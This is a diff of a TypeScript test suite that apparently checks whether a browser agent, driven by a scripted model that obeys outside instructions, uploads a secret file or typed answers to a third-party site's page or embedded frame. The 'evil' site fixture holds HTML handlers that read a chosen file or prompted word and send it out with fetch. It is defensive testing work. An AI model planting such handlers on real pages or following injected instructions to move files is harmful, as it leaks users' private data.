@@ -1,9 +1,11 @@
 // Words of others in an owner's turn, with a model that obeys them: nothing is carried to a place that the owner has not
 // named, looked for where it would arrive. What people do every day needs no approval.
 import assert from "node:assert/strict"
+import { mkdir, writeFile } from "node:fs/promises"
+import { join } from "node:path"
 import { test } from "node:test"
 import { endBrowsersOf } from "../support/left-browsers.ts"
-import { type Site, lastResults, obey, refOf, startSite } from "../support/obedient-model.ts"
+import { type Deed, type Site, lastResults, obey, refOf, startSite } from "../support/obedient-model.ts"
 import { type World, createWorld, fileContext } from "../support/world.ts"
 
 const secret = "the-owners-secret"
@@ -182,6 +184,57 @@ test("nothing is typed into pages and frames of sites that were only followed to
   assert.deepEqual(
     evil.requests.filter((path) => path.includes("typed")),
     [],
+  )
+})
+
+test("files and answers that wait for a page to ask go to no frame and no page of another site", async (context) => {
+  await begin()
+  await mkdir(join(world.stateFolder, "uploads"), { recursive: true })
+  await writeFile(join(world.stateFolder, "uploads", "tax.txt"), secret)
+  const evil = await startSite(context, (path) => {
+    const take = `fetch("/?took=" + encodeURIComponent`
+    const input = `<input type=file aria-label="File ${path.slice(1)}" onchange='this.files[0].text().then((words) => ${take}(words)))'>`
+    return `<title>evil</title>${input}<button onclick='${take}(prompt("Word?")))'>Ask</button>`
+  })
+  const shop = await startSite(context, () => {
+    const own = `<button onclick='fetch("/?word=" + prompt("Word?"))'>Own</button>`
+    return `<title>shop</title>${own}<a href="${evil.url}/page">Offer</a><iframe src="${evil.url}/frame" title=ad></iframe>`
+  })
+  const act = (request: Record<string, string>): Deed => ["browser", { action: "act", request }]
+  const upload = (more: Record<string, string> = {}): Deed => [
+    "browser",
+    { action: "upload", paths: ["tax.txt"], ...more },
+  ]
+  const answer: Deed = ["browser", { action: "dialog", accept: true, promptText: secret }]
+  const look: Deed = ["browser", { action: "snapshot", mode: "full" }]
+  obey(world, {
+    "bring the form": [
+      ["browser", { action: "open", url: shop.url }],
+      look,
+      ([, page]) => upload({ inputRef: refOf(page, "File frame") }),
+      ([, page]) => upload({ ref: refOf(page, "File frame") }),
+      upload(),
+      ([, page]) => act({ kind: "click", ref: refOf(page, "Own") }),
+      answer,
+      upload(),
+      answer,
+      ([, page]) => act({ kind: "click", ref: refOf(page, "Offer") }),
+      look,
+      (results) => act({ kind: "click", ref: refOf(results[10], "File page") }),
+      (results) => act({ kind: "click", ref: refOf(results[10], "Ask") }),
+      answer,
+      "brought",
+    ],
+  })
+  await world.reply("brought", { after: world.say(`bring the form of ${shop.url}`) })
+  const results = lastResults(world, "bring the form")
+  assert.match(results[10] ?? "", /File page/)
+  assert.match(results[12] ?? "", /Word\?/, "the question of the other site stays open")
+  await world.until("the named site has its answer", () => hits(shop).length > 0 || undefined)
+  assert.deepEqual(hits(evil), [])
+  assert.deepEqual(
+    results.map((result) => result.includes("may not do this by itself")),
+    results.map((_, index) => [2, 3, 13].includes(index)),
   )
 })
 
